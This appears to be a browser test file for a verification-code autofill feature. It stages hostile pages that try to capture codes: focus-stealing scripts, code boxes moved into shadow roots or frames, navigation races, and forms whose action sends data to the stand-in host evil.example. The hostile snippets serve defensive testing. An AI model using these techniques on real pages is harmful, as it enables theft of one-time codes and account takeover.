import { BOX, LOGIN, page, script, WORDS } from './markup';
import { type Attack, expect, type Scene, test } from './stage';

test.describe.configure({ mode: 'default' });

/** Runs of the race; 100 for a release. */
const RUNS = Number(process.env.LANYARD_RACE_RUNS ?? 12);
const EVIL = 'https://evil.example';

/** Codes that another page than the portal had. */
const abroad = (came: Map<string, readonly { where: string }[]>) =>
  [...came].filter(([, codes]) => codes.some(({ where }) => where.startsWith(EVIL))).map(([title]) => title);

/** The person asks for the code, and the page leaves for another at that time. */
const leaving: Attack[] = Array.from({ length: RUNS }, (_, run) => {
  const delay = Math.round((run * 500) / (RUNS - 1));
  return {
    title: `T10 leaves after ${delay} ms (${run})`,
    async play(scene) {
      scene.put('page', page(scene, WORDS + BOX));
      await scene.tab.goto(scene.address('page'));
      const { tab } = scene;
      const asked = scene.wish();
      await tab.evaluate(([delay, address]) => void setTimeout(() => location.assign(address), delay), [
        delay,
        scene.address('page', EVIL),
      ] as const);
      await tab.waitForURL(/evil/);
      await tab.waitForTimeout(250);
      await asked;
    },
  };
});

/** What is taken out of the oracle's sight is shown to it. */
const KEEP = script('globalThis.keep = (box) => setInterval(() => { document.body.title = box.value }, 20)');

/** The page's own moves while it is being filled. `mine` is what the page wants the code to go to instead. */
function moves(title: string, body: string): Attack {
  return {
    title,
    async play(scene) {
      scene.put('page', page(scene, WORDS + body, KEEP));
      scene.put(
        'inner',
        page(scene, '<input id="mine">', script("addEventListener('message', () => mine.focus())")),
      );
      await scene.tab.goto(scene.address('page'));
      await scene.wish();
      await scene.tab.waitForTimeout(200);
    },
  };
}

const MINE = '<p><label>Search <input id="mine"></label></p>';
const on = (kinds: string, work: string) =>
  script(
    `{ const box = code; for (const kind of '${kinds}'.split(' ')) box.addEventListener(kind, () => { ${work} }); }`,
  );
const SPLIT = `<fieldset><legend>Verification code</legend>${Array.from({ length: 6 }, (_, digit) => `<input class="digit" id="d${digit}" style="width:30px" inputmode="numeric" maxlength="1" aria-label="Digit ${digit + 1} of 6">`).join('')}</fieldset>`;

const MOVES: Attack[] = [
  moves('T18 takes the focus when the box has it', BOX + MINE + on('focus', 'mine.focus()')),
  moves(
    'T18 takes the focus at every event',
    BOX + MINE + on('focus input beforeinput keydown keyup change', 'mine.focus()'),
  ),
  moves(
    'T18 takes the focus all the time',
    `${BOX}${MINE}${script('setInterval(() => mine.focus(), 1); document.addEventListener("focusin", () => mine.focus())')}`,
  ),
  moves(
    'T18 takes the focus after the first digit of six',
    `${SPLIT}${MINE}${script('d0.addEventListener("input", () => mine.focus())')}`,
  ),
  moves(
    'T18 gives the focus to a frame of another',
    `${BOX}<iframe id="frame"></iframe>${script(`frame.src = '${EVIL}' + location.pathname.replace('page', 'inner'); setInterval(() => { frame.focus(); frame.contentWindow.postMessage('focus', '*') }, 5)`)}`,
  ),
  moves(
    'T19 swaps the box for its own',
    `${BOX}${MINE}${on('focus beforeinput', 'mine.maxLength = 6; box.replaceWith(mine)')}`,
  ),
  moves(
    'T19 takes the box into a shadow root of its own',
    `${BOX}<div id="lair"></div>${on('focus', 'lair.attachShadow({ mode: "closed" }).append(box); box.style.opacity = 0; keep(box)')}`,
  ),
  moves(
    'T19 takes the box into another document',
    `${BOX}<iframe id="lair"></iframe>${on('focus', 'lair.contentDocument.body.append(box)')}`,
  ),
  moves('T19 takes the box out of the page', `${BOX}${on('focus', 'box.remove(); keep(box)')}`),
  moves('T19 makes it something else', `${BOX}${on('focus', 'box.readOnly = true; keep(box)')}`),
];

/** What the page got that it was not given: anything in `mine`, or anywhere for a box that was taken away. */
const astray = (came: Map<string, readonly { source: string; where: string }[]>) =>
  [...came]
    .filter(([title, codes]) =>
      title.startsWith('T18')
        ? codes.some(({ source, where }) => source === 'box mine' || where.startsWith(EVIL))
        : codes.length > 0,
    )
    .map(([title]) => title);

test('T10 a page that leaves between the wish and the code takes nothing with it', async ({ stageWith }) => {
  test.setTimeout(300_000);
  const came = await (await stageWith(null, ['evil.example'])).play(leaving);
  expect(came.size).toBe(RUNS);
  expect(abroad(came)).toEqual([]);
});

test('T10 kept, made ready, and gone back to: no code for a page that is not shown', async ({
  stageWith,
}) => {
  const stage = await stageWith(null, ['evil.example']);
  const came = await stage.play([
    {
      title: 'back and forth',
      async play(scene) {
        scene.put('kept', page(scene, LOGIN + WORDS + BOX));
        scene.put('page', page(scene, LOGIN + WORDS + BOX));
        await scene.tab.goto(scene.address('kept'));
        const asked = scene.wish();
        await scene.tab.goto(scene.address('page', EVIL));
        await scene.tab.goBack();
        await scene.tab.goForward();
        await scene.wish();
        await scene.tab.waitForTimeout(300);
        await asked;
      },
    },
    {
      title: 'made ready',
      async play(scene) {
        scene.put(
          'page',
          page(
            scene,
            WORDS,
            script(
              `document.write('<script type="speculationrules">{"prerender":[{"urls":["ready"]}]}<\\/script>')`,
            ),
          ),
        );
        scene.put('ready', page(scene, WORDS + BOX, script('document.prerendering && fetch("ready-loot")')));
        await scene.tab.goto(scene.address('page'));
        await scene.tab.waitForTimeout(500);
        await scene.wish();
      },
    },
  ]);
  expect(abroad(came)).toEqual([]);
  expect(came.get('made ready')).toEqual([]);
});

test('T18 T19 a page that moves while it is filled leads no digit astray', async ({ stageWith }) => {
  test.setTimeout(180_000);
  const came = await (await stageWith(null, ['evil.example'])).play(MOVES);
  expect(came.size).toBe(MOVES.length);
  expect(astray(came)).toEqual([]);
});

/** The portal's own page, into which a script put another address to send the code to. */
const ELSEWHERE: Attack[] = [
  ['action', `<form action="${EVIL}/x">${BOX}<button>Verify</button></form>`],
  [
    'action and GET in a frame',
    `<form action="${EVIL}/x" target="lair">${BOX}<button>Verify</button></form><iframe name="lair"></iframe>`,
  ],
  ['formaction', `<form action="/x">${BOX}<button formaction="${EVIL}/x">Verify</button></form>`],
].map(([what, body]) => ({
  title: `T21 ${what}`,
  async play(scene: Scene) {
    scene.put('page', page(scene, LOGIN + WORDS + body));
    await scene.tab.goto(scene.address('page'));
    await scene.logIn();
    await scene.tab.waitForTimeout(4_000);
  },
}));

test('T21 an armed login fills no form that is sent elsewhere', async ({ stageWith }) => {
  const came = await (await stageWith(null, ['evil.example'])).play(ELSEWHERE);
  expect([...came].filter(([, codes]) => codes.length > 0)).toEqual([]);
});

test('T21 the control: sent to the portal itself it is filled', async ({ stageWith }) => {
  const came = await (await stageWith(null, ['evil.example'])).play([
    {
      title: 'home',
      async play(scene) {
        scene.put(
          'page',
          page(scene, `${LOGIN}${WORDS}<form action="/x">${BOX}<button>Verify</button></form>`),
        );
        await scene.tab.goto(scene.address('page'));
        await scene.logIn();
        await scene.awaitCode();
      },
    },
  ]);
  expect(came.get('home')).not.toEqual([]);
});

test('T10 the control: sent to the tab, codes arrive on the next page', async ({ stageWith }) => {
  test.setTimeout(300_000);
  const came = await (await stageWith('by-tab', ['evil.example'])).play(leaving);
  expect(abroad(came).length).toBeGreaterThan(0);
});

test('T18 T19 the control: typed a digit at a time into what has the focus, they go astray', async ({
  stageWith,
}) => {
  test.setTimeout(180_000);
  // The others leave this build waiting for the focus until it gives up.
  const telling = ['T18 takes the focus when the box has it', 'T19 makes it something else'];
  const moves = MOVES.filter(({ title }) => telling.includes(title));
  const came = await (await stageWith('by-focus', ['evil.example'])).play(moves);
  expect(astray(came).join('\n')).toContain('T18');
  expect(astray(came).join('\n')).toContain('T19');
});
